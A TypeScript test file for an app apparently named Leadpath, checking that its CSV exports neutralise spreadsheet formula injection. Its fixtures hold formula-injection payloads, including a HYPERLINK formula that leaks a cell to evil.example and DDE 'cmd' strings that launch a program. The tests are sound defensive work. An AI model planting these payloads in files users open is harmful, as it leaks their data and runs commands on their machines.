import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AppLoadContext } from '@remix-run/node';
import { getRejectsCsv } from '../../../app/models/data.server';
import { toCsv } from '../../../app/reports/export';
import { reportParamsSchema } from '../../../app/reports/params';
import { parseCsv } from '../../../db/import/csv-source';
import { projectRoot } from '../../../db/paths';
import { REPORTS } from '../../../db/reports/index';
import type { Workspace } from '../../../db/schema';
import { signInAs } from '../../support/auth';
import { createTestDatabase, type TestDatabase } from '../../support/database';
import { csv, importText, makeWorkspace } from '../../support/import';

// Formula strings are data on the way in (stored verbatim) and are defused on
// the way out: every CSV Leadpath writes (`leadpath report --format csv`, the
// rejected-rows download, the tables' "Export CSV") prefixes a cell starting
// with = + - @ tab or CR with a single quote.

let t: TestDatabase;
let ws: Workspace;

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-1+1', '\t=1+1', '=2*3'];
const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;

beforeAll(async () => {
  t = await createTestDatabase();
  ws = await makeWorkspace(t.db, 'acme');
  const spend = await importText(t.db, ws, 'spend', csv('date,source,medium,campaign,cost', ...FORMULAS.map((f, i) => `2026-03-0${i + 1},google,cpc,${quote(f)},10.00`)));
  const sessions = await importText(t.db, ws, 'sessions', csv('session_id,visitor_id,started_at,source,medium,campaign', ...FORMULAS.map((f, i) => `s${i},v${i},2026-03-0${i + 1}T10:00:00Z,google,cpc,${quote(f)}`)));
  expect([spend.status, sessions.status]).toEqual(['succeeded', 'succeeded']);
});
afterAll(async () => t.drop());

/** Records of a CSV as our own import reads them (a spreadsheet would show the same cells). */
async function readCsv(text: string): Promise<string[][]> {
  const out: string[][] = [];
  for await (const r of parseCsv(Readable.from([Buffer.from(text, 'utf8')]))) out.push(r.cells);
  return out;
}

test('formula strings are stored verbatim (the tab cell trimmed like any other cell)', async () => {
  const rows = await t.db.selectFrom('spend').select('campaign').orderBy('date').execute();
  expect(rows.map((r) => r.campaign)).toEqual(FORMULAS.map((f) => f.trim()));
});

describe('leadpath report --format csv', () => {
  test('the channels report by campaign, through the report runner the CLI uses', async () => {
    const params = reportParamsSchema.parse({ from: '2026-03-01', to: '2026-03-31', by: 'campaign' });
    const out = await REPORTS.channels!(t.db, ws, params);
    const [header, ...rows] = await readCsv(toCsv(out.columns, out.rows));
    const campaigns = rows.map((r) => r[header!.indexOf('campaign')]).sort();
    // Every campaign here starts with = + - @ (the tab one was trimmed to "=1+1" on import), so every one is prefixed.
    expect(campaigns).toEqual(FORMULAS.map((f) => `'${f.trim()}`).sort());
    // Money is an exact decimal string, not a formula: left as it is.
    expect(rows.map((r) => r[header!.indexOf('spend')])).toEqual(FORMULAS.map(() => '10.00'));
  });

  test('the CLI itself (one process)', async () => {
    const r = spawnSync(process.execPath, [path.join(projectRoot, 'bin/leadpath.mjs'), 'report', 'channels', '--workspace', 'acme', '--from', '2026-03-01', '--to', '2026-03-31', '--by', 'campaign', '--format', 'csv'], {
      env: { ...process.env, DATABASE_URL: t.url },
      encoding: 'utf8',
    });
    expect(r.status, r.stderr).toBe(0);
    const [header, ...rows] = await readCsv(r.stdout);
    expect(rows.map((row) => row[header!.indexOf('campaign')]).sort()).toEqual(FORMULAS.map((f) => `'${f.trim()}`).sort());
    // As written: a quoted cell keeps its quote prefix inside the quotes.
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  });
});

test('the rejected rows download defuses formulas in values and reasons', async () => {
  const owner = await signInAs(t.db, { workspaceId: ws.id, role: 'owner' });
  const r = await importText(t.db, ws, 'leads', csv(
    'lead_id,created_at,kind,stage,outcome,amount,temperature',
    `=cmd|' /C calc'!A0,2026-03-01T10:00:00Z,form,new,won,=1+1,cold`,
    `L2,2026-03-01T10:00:00Z,form,new,won,5,@SUM(A1)`,
  ));
  expect(r.status).toBe('failed');
  const response = await getRejectsCsv({ db: t.db, cspNonce: 'n' } as AppLoadContext, 'acme', new Request('http://localhost/w/acme/data/imports/x/errors.csv', { headers: { cookie: owner.cookie } }), String(r.importId));
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  const bytes = Buffer.from(await response.arrayBuffer());
  // A UTF-8 BOM first, so spreadsheets read the file as UTF-8.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8');
  expect(await readCsv(text)).toEqual([
    ['line', 'column', 'value', 'reason'],
    ['2', 'amount', "'=1+1", 'not a decimal number (digits with an optional "." and up to 6 decimals)'],
    ['3', 'temperature', "'@SUM(A1)", 'unknown value "@SUM(A1)" (expected one of: cold, warm, hot)'],
  ]);
});
